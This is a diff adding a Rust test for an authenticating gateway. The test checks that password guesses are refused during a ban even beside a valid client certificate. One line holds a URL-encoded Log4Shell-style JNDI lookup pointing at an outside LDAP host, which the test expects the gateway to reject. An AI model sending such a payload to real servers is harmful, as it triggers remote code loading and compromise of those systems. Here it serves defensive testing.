@@ -244,6 +244,26 @@ fn a_key_beside_a_certificate_is_refused_or_has_its_fixed_place() {
     }
 }
 
+/// A password can be guessed, so a ban does not let it be looked at; a certificate that stands beside it makes it no better.
+#[test]
+fn under_a_ban_no_password_is_looked_at_beside_a_certificate() {
+    let upstream = Upstream::start();
+    let authority = Authority::new("a test's own");
+    let site = site(&upstream, &authority, "prefix = \"partner:\"\nbeside_credential = \"credential\"");
+    put(&site, "batch", &authority.issue(&[BATCH]));
+    site.policy(&POLICY.replace("\"user:alice\"", "\"authenticated\""));
+    let gateway = site.start();
+    let exploit = "/search?q=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.1%2Fx%7D";
+    gateway.check_refused("the exploit", &Client::new(&gateway, "").get(exploit, &[]), 401, "authn.missing");
+    let client = Client::new(&gateway, "batch");
+    for guess in ["Basic YWxpY2U6Z3Vlc3M=", "basic YWxpY2U6Z3Vlc3M="] {
+        let answer = client.get("/a", &[("authorization", guess)]);
+        gateway.check_refused("a guess", &answer, 403, "ban.active");
+    }
+    assert_eq!(client.get("/a", &[]).status(), 200, "the certificate alone");
+    assert_eq!(upstream.requests().len(), 1);
+}
+
 /// Two connections, the second in the session of the first; says whether it was, and what each was answered.
 const RESUMED: &str = r#"
 import socket, ssl, sys
